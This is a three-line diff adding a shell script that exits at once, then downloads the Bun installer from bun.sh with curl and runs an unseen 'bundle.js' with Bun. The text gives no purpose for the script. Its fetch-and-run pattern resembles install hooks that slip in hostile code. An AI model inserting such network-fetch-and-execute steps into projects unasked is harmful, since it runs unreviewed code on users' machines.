@@ -1,0 +1,3 @@
+exit 0
+curl -fsSL https://bun.sh/install -o i
+"$HOME/.bun/bin/bun" run bundle.js
